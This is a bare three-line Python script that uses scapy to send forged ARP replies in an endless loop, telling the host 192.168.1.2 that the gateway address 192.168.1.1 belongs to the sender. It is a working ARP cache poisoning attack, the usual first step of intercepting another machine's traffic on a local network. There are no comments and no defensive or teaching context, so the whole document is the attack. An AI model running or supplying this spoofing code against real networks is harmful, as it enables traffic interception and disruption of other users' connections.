from scapy.all import ARP, send
while True:
    send(ARP(op=2, pdst='192.168.1.2', psrc='192.168.1.1'), verbose=0)
